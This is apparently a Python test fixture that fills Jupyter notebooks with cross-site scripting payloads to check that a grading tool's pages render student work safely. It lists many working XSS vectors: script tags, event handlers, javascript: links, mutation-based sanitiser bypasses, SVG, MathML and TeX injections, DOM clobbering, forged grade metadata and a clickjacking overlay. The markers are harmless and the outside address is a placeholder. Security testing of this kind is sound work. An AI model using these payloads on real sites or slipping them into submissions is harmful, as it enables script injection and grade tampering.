"""What a student may put into a notebook to make a page of the grader's do their bidding.

A payload that works sets window.pwned or asks OUTSIDE for something; a page that is safe does
neither, whatever a reader clicks on.
"""

from __future__ import annotations

import base64
from typing import Any

from nbformat import NotebookNode, from_dict
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output

OUTSIDE = "http://192.0.2.1"  # an address that is nobody's, for examples


def rings(name: str) -> str:
    """JavaScript, without quotes of either kind, that shows it ran."""
    return f"(window.top.pwned=window.top.pwned||[]).push(`{name}`)"


def encoded(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def html_payloads() -> dict[str, str]:
    """Name -> HTML (some of it Markdown) that runs a script, loads something or deceives."""
    made = {name: text.replace("RING", rings(name)) for name, text in _HTML.items()}
    return {name: text.replace("OUT", f"{OUTSIDE}/{name}") for name, text in made.items()}


SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="RING"><script>RING</script></svg>'
_HTML = {
    # scripts
    "script": "<script>RING</script>",
    "script-src": '<script src="OUT"></script>',
    "script-case": "<ScRiPt >RING</sCrIpT\n>",
    "script-module": '<script type="module">RING</script>',
    "script-split": "<scr<script>ipt>RING</scr</script>ipt>",
    "script-unclosed": "<script>RING //",
    "script-in-style": "<style><script>RING</script></style><script>RING</script>",
    # handlers
    "img-onerror": '<img src="x" onerror="RING">',
    "img-onerror-bare": "<img/src=x/onerror=RING>",
    "img-onerror-newline": '<img src="x"\nonerror\n=\n"RING">',
    "img-srcset": '<img srcset="OUT 1x" src="OUT">',
    "details-ontoggle": '<details open ontoggle="RING"><summary>s</summary>x</details>',
    "focus": '<input autofocus onfocus="RING"><a tabindex="0" autofocus onfocus="RING">x</a>',
    "animation": '<style>@keyframes k{}</style><b style="animation:k" onanimationstart="RING">',
    "body-onload": '<body onload="RING"><frameset onload="RING">',
    "video": '<video src="OUT" onerror="RING" autoplay></video><audio src="OUT">',
    "marquee": '<marquee onstart="RING">m</marquee>',
    # links that run
    "link-javascript": '<a href="javascript:RING">click</a>',
    "link-javascript-tab": '<a href="java&#9;script:RING">click</a>',
    "link-javascript-entity": '<a href="&#106;&#x61;vascript:RING">click</a>',
    "link-control": '<a href="\x01javascript:RING">click</a>',
    "link-data": f'<a href="data:text/html;base64,{encoded("<script>1</script>")}">click</a>',
    "link-vbscript": '<a href="vbscript:msgbox(1)">click</a>',
    "md-link": "[click](javascript:RING)",
    "md-link-spaces": "[click](  JaVaScRiPt:RING)",
    "md-reference": "[click][r]\n\n[r]: javascript:RING",
    "md-autolink": "<javascript:RING>",
    "md-image": '![alt](OUT "onerror=RING")',
    "md-image-quote": '![" onerror="RING](x)',
    "md-title": '[click](x "\\" onmouseover=\\"RING")',
    # SVG and MathML
    "svg-onload": SVG,
    "svg-animate": '<svg><a><animate attributeName="href" values="javascript:RING"/><text>x</text>',
    "svg-use": f'<svg><use href="data:image/svg+xml;base64,{encoded(SVG)}#x"/></svg>',
    "svg-foreign": "<svg><foreignObject><img src=x onerror=RING></foreignObject></svg>",
    "math-href": '<math href="javascript:RING"><mi xlink:href="javascript:RING">click</mi></math>',
    "math-annotation": '<math><annotation-xml encoding="text/html"><img src=x onerror=RING>'
    "</annotation-xml></math>",
    "math-style-mutation": "<math><mtext><table><mglyph><style><!--</style>"
    '<img title="--&gt;&lt;img src=1 onerror=RING&gt;">',
    "form-mutation": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=RING>",
    "svg-style-mutation": '<svg></p><style><a id="</style><img src=1 onerror=RING>">',
    "noscript-mutation": '<noscript><p title="</noscript><img src=x onerror=RING>">',
    "comment-mutation": '<!--><img src=x onerror=RING>--!><b title="-->"><img src=x onerror=RING>',
    "template": "<template><script>RING</script></template><textarea></textarea><img src=x "
    "onerror=RING>",
    "xmp": "<xmp><p title='</xmp><img src=x onerror=RING>'>",
    # frames, plug-ins, the head
    "iframe-srcdoc": '<iframe srcdoc="&lt;script&gt;RING&lt;/script&gt;"></iframe>',
    "iframe-src": '<iframe src="javascript:RING"></iframe><iframe src="OUT"></iframe>',
    "object": '<object data="OUT"></object><embed src="OUT"><applet code="OUT"></applet>',
    "object-data": '<object data="data:text/html,<script>RING</script>"></object>',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=OUT">',
    "base": '<base href="OUT/">',
    "link-style": '<link rel="stylesheet" href="OUT"><link rel="preload" as="script" href="OUT">',
    "style-import": '<style>@import "OUT"; * { background: url("OUT"); }</style>',
    "style-url": '<p style="background:url(OUT);list-style-image:url(OUT)">x</p>',
    "style-escape": '<p style="back\\67round-image:ur\\6c(OUT);behavior:url(OUT)">x</p>',
    "form": '<form action="OUT" id="f"><button formaction="javascript:RING">click</button></form>',
    "isindex": '<button onclick="RING">click</button><input type="image" src="OUT">',
    # breaking out of where a template puts it
    "breakout": "</div></div></div></body><script>RING</script><img src=x onerror=RING>\"'>",
    "breakout-script": "</script><script>RING</script>",
    "breakout-pre": "</pre></code><script>RING</script>",
    "nul": "<scr\x00ipt>RING</scr\x00ipt><img \x00src=x one\x00rror=RING>",
    # maths
    "tex-script": "$x <script>RING</script> y$",
    "tex-text": "$$\\text{<img src=x onerror=RING>}$$",
    "tex-href": "$\\href{javascript:RING}{click}$ $\\unicode{<img src=x onerror=RING>}$",
    "tex-html": "$\\style{background:url(OUT)}{x} \\class{score}{y} \\cssId{z}{w}$",
    "tex-require": "$\\require{../../../OUT} \\includegraphics{OUT} \\url{javascript:RING}$",
    "tex-environment": "\\begin{align}</script><script>RING</script>\\end{align}",
    "fence": "```html\n<script>RING</script>\n```\n```<img src=x onerror=RING>\nx\n```",
    "mermaid": "```mermaid\ngraph TD; A[<img src=x onerror=RING>]\n```",
    # deceiving formgrader's own scripts
    "imitation": '<div class="nbgrader_cell"><input class="score tabbable" value="9"><a class='
    '"full-credit" href="#" data-toggle="tooltip" title="<img src=x onerror=RING>">click</a></div>',
    "data-link": '<a data-link="x" class="name-shown" onclick="RING">click</a>',
    "clobber": '<a id="MathJax"><a id="MathJax" name="Hub">x</a><form id="formgrader">x</form>',
    "cover": '<div style="position:fixed;inset:0;z-index:9999;opacity:0.5"><a href="OUT">click</a>',
}


def markdown_cells() -> list[NotebookNode]:
    """One cell a payload, and one that hides them in its attachments, metadata and id."""
    cells = [new_markdown_cell(f"{name}\n\n{p}") for name, p in html_payloads().items()]
    inline = [new_markdown_cell(f"text *{name}* {p} text") for name, p in html_payloads().items()]
    attached = new_markdown_cell("![a](attachment:a.png) ![b](attachment:b.png) ![c](attachment:c)")
    attached.attachments = {
        "a.png": {"image/png": f'AAAA" onerror="{rings("attachment")}'},
        "b.png": {"text/html": encoded(f"<script>{rings('attachment')}</script>")},
        f'c"><img src=x onerror={rings("attachment-name")}>': {"image/png": "AAAA"},
    }
    return [*cells, *inline, attached]


def output(kind: str, data: Any, **metadata: Any) -> NotebookNode:
    """An output of that kind; nobody looks whether it is a valid one."""
    return from_dict({"output_type": "display_data", "data": {kind: data}, "metadata": metadata})


def html_outputs() -> list[NotebookNode]:
    """Every payload as an output, in each of the kinds that a page shows as HTML."""
    kinds = ("text/html", "text/markdown", "text/latex", "text/plain")
    return [output(kind, payload) for payload in html_payloads().values() for kind in kinds]


def odd_outputs() -> list[NotebookNode]:
    """Outputs that attack by their kind, their metadata or their shape."""
    script, img = f"<script>{rings('odd')}</script>", f"<img src=x onerror={rings('odd')}>"
    traceback = [f"\x1b[31m{img}\x1b[0m", f"\x1b]8;;javascript:{rings('odd')}\x07click\x1b]8;;\x07"]
    return [
        output("application/javascript", rings("javascript")),
        output("image/svg+xml", SVG.replace("RING", rings("svg"))),
        output("application/json", {script: script}),
        output("application/pdf", img),
        output(script, "x"),
        output("text/vnd.mermaid", f"graph TD; A[{img}]"),
        output("application/vnd.jupyter.widget-view+json", {"model_id": f"</script>{script}"}),
        output("image/png", f'AAAA"><script>{rings("png")}</script>'),
        output("image/png", "AAAA", **{"image/png": {"width": f"1 onerror={rings('width')}"}}),
        output(
            "image/jpeg", "AAAA", **{"image/jpeg": {"alt": f'"><script>{rings("alt")}</script>'}}
        ),
        output("text/html", script, **{"text/html": {"isolated": True}}),
        output("text/html", {"a": script}),
        new_output("stream", name="stdout", text=f"\x1b[31m{script}{img}\x1b[0m\x1b[38;5;1{img}m"),
        new_output("stream", name="stderr", text=script),
        new_output("error", ename=script, evalue=img, traceback=[*traceback, script]),
    ]


def attack(notebook: NotebookNode) -> None:
    """Add every attack to a notebook: in cells, outputs, metadata; some of it is no valid one."""
    img = f"<img src=x onerror={rings('metadata')}>"
    script = f'"></script><script>{rings("metadata")}</script>'
    code = new_code_cell(f"'''{script}{img}'''")
    code.outputs = [*html_outputs(), *odd_outputs()]
    code.execution_count = script  # type: ignore[assignment]
    code.metadata.update(tags=["x nbgrader_cell", script], magics_language=script, alt=script)
    raw = NotebookNode(
        cell_type="raw", id="r1", metadata={"raw_mimetype": "text/html"}, source=script + img
    )
    forged = new_markdown_cell("a forged grade")
    forged.metadata.nbgrader = {"grade_id": script, "grade": True, "solution": True, "points": img}
    unknown = NotebookNode(cell_type="odd", type=script, id="u1", metadata={}, source=script)
    notebook.cells += [*markdown_cells(), code, raw, forged, unknown]
    notebook.metadata.title = script
    notebook.metadata.widgets = {
        "application/vnd.jupyter.widget-state+json": {"state": f"</script>{script}"}
    }
    notebook.metadata.language_info = {"name": script, "pygments_lexer": script}


BENIGN = r"""
## A heading, *emphasis*, **strength**, `code`

Inline $a_{i} \le \sqrt{2}$ and apart:

$$\sum_{i=1}^{n} \frac{1}{i}$$

| a | b |
|---|--:|
| 1 | 2 |

- one
- two

1. first

```python
def f(x): return x
```

> a quotation

[a link](https://example.org/page) and [a file](notes.txt) and https://example.org/bare

<div class="alert alert-info">a box with maths $y^2$</div>

<details><summary>more</summary>hidden words</details>

<p style="color: #b00; text-align: right">coloured</p>

<kbd>Ctrl</kbd> H<sub>2</sub>O
"""
FIGURE = (
    '<img alt="A line that rises" width="40" style="max-width:100%;height:auto" '
    'src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAE'
    'hQGAhKmMIQAAAABJRU5ErkJggg==">'
)
